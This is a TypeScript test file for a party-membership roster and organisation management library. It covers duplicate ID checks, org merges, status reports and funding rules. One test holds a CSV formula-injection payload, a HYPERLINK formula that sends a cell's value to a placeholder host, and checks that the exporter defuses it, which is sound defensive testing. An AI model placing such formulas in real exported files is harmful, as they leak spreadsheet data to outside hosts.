import { MemoryStore } from '@dangjian/adapters/memory';
import {
  SimulatedClock,
  ValidationError,
  Workspace,
  branchFundingReport,
  structureReport,
  compileCondition,
  createOrg,
  dissolveOrg,
  execute,
  idNumberCheckCharacter,
  mergeOrgs,
  parseCsv,
  parseRoster,
  registerInCommunity,
  registerMember,
  renameOrg,
  reviewProject,
  sendFeedbackReport,
  setUnitCoverage,
  shanghaiDate,
  snapshotFromRecords,
  statusReport,
  toCsv,
  updateMember,
  type Store,
} from '@dangjian/core';
import { describe, expect, it } from 'vitest';
import { regionalStreet } from '../fixtures/tenants/regional-street.js';
import { ctx, runOk, smallStreet } from './fixtures.js';

const idNumber = (body: string): string => `${body}${idNumberCheckCharacter(body)}`;
const member = (id: string, extra: Record<string, unknown> = {}) => ({
  id,
  name: `党员${id}`,
  gender: 'male',
  birthDate: '1960-01-01',
  stage: 'full',
  relationOrgId: 'b1',
  ...extra,
});

describe('fixes from the review of the first slice', () => {
  it('counts only active members against the structure thresholds', () => {
    const street = snapshotFromRecords('320402', 0, {
      orgs: [{ id: 'b1', name: '第一党支部', kind: 'branch', parentId: null }],
      members: [
        { ...member('a'), managingOrgId: 'b1' },
        { ...member('b', { status: 'deceased', statusSince: '2026-01-01' }), managingOrgId: 'b1' },
        { ...member('c', { status: 'transferredOut', statusSince: '2026-01-01' }), managingOrgId: 'b1' },
      ] as never,
    });
    expect(structureReport(street).findings.map((finding) => finding.code)).toContain('structure.branchTooSmall');
  });

  it('refuses a second member with the same ID number, on register, update and import', () => {
    const id = idNumber('32040219600101001');
    let street = runOk(smallStreet(), registerMember, member('m1', { idNumber: id }));
    const twice = execute(street, registerMember, member('m2', { idNumber: id.toLowerCase() }), ctx);
    expect(twice.ok || [twice.error.code, twice.error.field]).toEqual(['member.duplicateIdNumber', 'idNumber']);
    street = runOk(street, registerMember, member('m2'));
    const update = execute(street, updateMember, { memberId: 'm2', idNumber: id }, ctx);
    expect(update.ok || update.error.code).toBe('member.duplicateIdNumber');
    expect(runOk(street, updateMember, { memberId: 'm1', idNumber: id }).members.get('m1')?.idNumber).toBe(id);
    const file = [
      ['编号', '姓名', '性别', '出生日期', '公民身份号码', '党员类别', '组织关系所在党组织'],
      ['m3', '张三', '男', '1960-01-01', id, '正式党员', 'b1'],
    ];
    const parsed = parseRoster(file, street);
    expect(parsed.ok || parsed.error.map((issue) => [issue.row, issue.column, issue.code])).toEqual([
      [2, 'E', 'roster.idNumberTaken'],
    ]);
  });

  it('follows nested org references when dissolving and merging', () => {
    let street = runOk(
      smallStreet(),
      registerMember,
      member('m1', {
        relationOrgId: 'b1',
        residence: { communityOrgId: 'b2' },
        employer: { name: '某单位', orgId: 'b2' },
      }),
    );
    const dissolve = execute(street, dissolveOrg, { orgId: 'b2' }, ctx);
    expect(dissolve.ok || dissolve.error.code).toBe('org.inUse');
    street = runOk(street, createOrg, { id: 'b3', name: '第三党支部', kind: 'branch', parentId: 'community' });
    street = runOk(street, mergeOrgs, { sourceId: 'b2', targetId: 'b3' });
    expect(street.members.get('m1')).toMatchObject({ residence: { communityOrgId: 'b3' }, employer: { orgId: 'b3' } });
    const dangling = execute(street, updateMember, { memberId: 'm1', residence: { communityOrgId: 'gone' } }, ctx);
    expect(dangling.ok || dangling.error.field).toBe('residence.communityOrgId');
  });

  it('keeps settings for branches and groups only, so no group lands under a committee', () => {
    const result = execute(
      smallStreet(),
      createOrg,
      { id: 'x', name: '假留守', kind: 'committee', setting: 'retained', parentId: 'street' },
      ctx,
    );
    expect(result.ok || result.error.field).toBe('setting');
  });

  it('names the project id when reviewing a missing project, and refuses a report for someone else', () => {
    const missing = execute(
      smallStreet(),
      reviewProject,
      { projectId: 'p9', reviewedOn: '2026-12-31', rating: 'good' },
      ctx,
    );
    expect(missing.ok || missing.error.field).toBe('projectId');
    let street = runOk(smallStreet(), registerMember, member('m1'));
    street = runOk(street, registerMember, member('m2'));
    street = runOk(street, registerInCommunity, {
      id: 'r1',
      memberId: 'm1',
      communityOrgId: 'community',
      registeredOn: '2026-03-01',
    });
    const other = execute(
      street,
      sendFeedbackReport,
      {
        id: 'f1',
        registrationId: 'r1',
        memberId: 'm2',
        period: '2026',
        serviceMinutes: 60,
        activities: 1,
        sentOn: '2026-12-01',
      },
      ctx,
    );
    expect(other.ok || [other.error.code, other.error.field]).toEqual(['registration.otherMember', 'memberId']);
  });

  it('suggests suspension only after six whole calendar months', () => {
    const findings = (since: string) =>
      statusReport(
        snapshotFromRecords('320402', 0, {
          members: [{ ...member('m1', { lostContactSince: since }), managingOrgId: 'b1' }] as never,
        }),
        '2026-07-01',
      ).findings;
    expect(findings('2026-01-31')).toEqual([]);
    expect(findings('2026-01-01')).toHaveLength(1);
  });

  it('treats a missing fact as false for ne, like every other test', () => {
    expect(
      compileCondition({ op: 'compare', fact: 'employment', cmp: 'ne', value: 'retired' })(
        {},
        { asOf: shanghaiDate('2026-11-23') },
      ),
    ).toBe(false);
  });

  it('refuses fractional fen in a funding policy', () => {
    expect(() =>
      branchFundingReport(5, 100, { perMemberPerYearFen: 30.5, duesReturnedShareBp: 1000, rounding: 'floor' }),
    ).toThrow(RangeError);
    expect(() =>
      branchFundingReport(5, 100, { perMemberPerYearFen: 3000, duesReturnedShareBp: 12_000, rounding: 'floor' }),
    ).toThrow(RangeError);
  });

  it('defuses would-be formulas in CSV and reads them back as text', () => {
    const csv = toCsv([['姓名'], ['=HYPERLINK("http://x/?"&E2)'], ['-1']]);
    expect(csv).toContain(`'=HYPERLINK`);
    expect(parseCsv(csv).map((row) => row[0])).toEqual(['姓名', `'=HYPERLINK("http://x/?"&E2)`, "'-1"]);
    const parsed = parseRoster(
      [
        ['编号', '姓名', '性别', '出生日期', '党员类别', '组织关系所在党组织'],
        ...parseCsv(toCsv([['m1', '+王', '男', '1960-01-01', '正式党员', 'b1']])),
      ],
      smallStreet(),
    );
    expect(parsed.ok && parsed.value[0]!.name).toBe('+王');
  });

  it('returns a typed error for a malformed actor instead of throwing', () => {
    const result = execute(
      smallStreet(),
      renameOrg,
      { orgId: 'b1', name: '新' },
      { actor: { id: '' }, now: '2026-11-23T00:00:00Z' },
    );
    expect(result.ok || result.error.field).toBe('actor.id');
  });

  it('validates what an untrusted store loads', async () => {
    const memory = new MemoryStore();
    const bad = { orgs: [{ id: 'b1', name: '', kind: 'branch', parentId: null }] } as never;
    const untrusted: Store = {
      load: async (tenant) => ({ tenant, revision: 1, records: bad }),
      commit: (c) => memory.commit(c),
      readAudit: (t, q) => memory.readAudit(t, q),
      close: () => memory.close(),
    };
    const clock = new SimulatedClock('2026-11-23T00:00:00Z');
    await expect(
      Workspace.open({ store: untrusted, tenant: '320402', clock, actor: { id: 'u' } }),
    ).rejects.toBeInstanceOf(ValidationError);
  });

  it('takes a unit off its old joint branch when its coverage changes', () => {
    const street = regionalStreet();
    expect(street.orgs.get('joint1')?.unitIds).toContain('firm7');
    const moved = runOk(street, setUnitCoverage, {
      unitId: 'firm7',
      formation: 'instructor',
      instructor: { name: '派驻指导员' },
    });
    expect(moved.orgs.get('joint1')?.unitIds).not.toContain('firm7');
  });
});
